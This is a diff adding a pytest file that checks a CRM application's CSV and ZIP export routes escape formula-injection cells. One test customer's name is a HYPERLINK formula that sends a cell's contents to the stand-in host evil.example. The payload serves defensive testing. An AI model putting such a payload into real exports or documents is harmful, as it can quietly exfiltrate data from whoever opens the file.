@@ -1,0 +1,108 @@
+"""Every spreadsheet export neutralises cells a spreadsheet would run as a formula.
+
+Export routes are found from the app: any route that declares a CSV or ZIP answer. Each must
+have a case here, so a new export cannot skip the check.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+
+from api.bootstrap.wiring import Services
+from api.services.spreadsheet import FORMULA_STARTS, safe_cell
+from crm.application.users import Role
+from projections.engine.runner import wait_until_caught_up
+from tests.api.test_permissions import endpoints
+from tests.api.web_client import new_user, page_csrf, sign_in
+from tests.factories import RoleHeaders, record, register, unique
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def csv_files(response_content: bytes, content_type: str) -> list[str]:
+    """The CSV texts of an answer: itself, or every CSV inside a ZIP."""
+    if "zip" in content_type:
+        with zipfile.ZipFile(io.BytesIO(response_content)) as bundle:
+            return [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
+    return [response_content.decode()]
+
+
+def export_routes(app: FastAPI) -> set[tuple[str, str]]:
+    found = set()
+    for method, path, route in endpoints(app):
+        kinds = {
+            kind for answer in route.responses.values() for kind in (answer.get("content") or {})
+        }
+        if kinds & {"text/csv", "application/zip"}:
+            found.add((method, path))
+    return found
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value: str) -> None:
+    assert safe_cell(value) == "'" + value
+    assert safe_cell("Matti " + value) == "Matti " + value
+    assert safe_cell(-1) == -1
+
+
+def test_every_export_route_neutralises_formula_cells(
+    app: FastAPI, services: Services, as_role: RoleHeaders
+) -> None:
+    sector = unique("sector")
+    now = datetime.now(UTC)
+    customer = register(services.crm, name=HOSTILE_NAME, sector=sector, at=now - timedelta(days=2))
+    record(
+        services.crm, customer, now - timedelta(hours=1), "consent_given", notes=None,
+        purpose="email_marketing", lawful_basis="consent", evidence="@form",
+    )  # fmt: skip
+    wait_until_caught_up(services.projector, services.views.refresh())
+    api = TestClient(app)
+    marketing, dpo = as_role[Role.MARKETING], as_role[Role.DPO]
+    segment = api.post(
+        "/segments", json={"name": unique("hostile"), "rule": {"sector": sector}}, headers=marketing
+    ).json()
+    api.get(f"/customers/{customer}", params={"reason": "-read"}, headers=as_role[Role.DPO])
+    marketer = sign_in(app, new_user(services, Role.MARKETING))
+    officer = sign_in(app, new_user(services, Role.DPO))
+    segment_path = {"segment_id": segment["segment_id"]}
+
+    cases: dict[tuple[str, str], Callable[[], tuple[bytes, str]]] = {}
+
+    def case(method: str, path: str, client: TestClient, **kwargs: object) -> None:
+        def call() -> tuple[bytes, str]:
+            url = path.format(customer_id=customer, **segment_path)
+            response = client.request(method, url, **kwargs)  # type: ignore[arg-type]
+            assert response.status_code == 200, (path, response.text)
+            return response.content, response.headers["content-type"]
+
+        cases[(method, path)] = call
+
+    case("POST", "/segments/{segment_id}/exports", api,
+         json={"purpose": "email_marketing"}, headers=marketing)  # fmt: skip
+    case("POST", "/ui/segments/{segment_id}/export", marketer,
+         data={"purpose": "email_marketing", "csrf_token": page_csrf(marketer)})  # fmt: skip
+    case("GET", "/privacy/exports/{customer_id}", api, params={"format": "csv"}, headers=dpo)
+    case("GET", "/privacy/access-log", api,
+         params={"customer": str(customer), "format": "csv"}, headers=dpo)  # fmt: skip
+    case("GET", "/ui/privacy/access-log", officer,
+         params={"customer": str(customer), "format": "csv"})  # fmt: skip
+
+    assert export_routes(app) == set(cases), "give every export route a case here"
+    for (method, path), call in cases.items():
+        content, content_type = call()
+        texts = csv_files(content, content_type)
+        assert texts, f"{method} {path} returned no CSV"
+        cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
+        if "segment" in path:
+            assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
+    marketer.close()
+    officer.close()
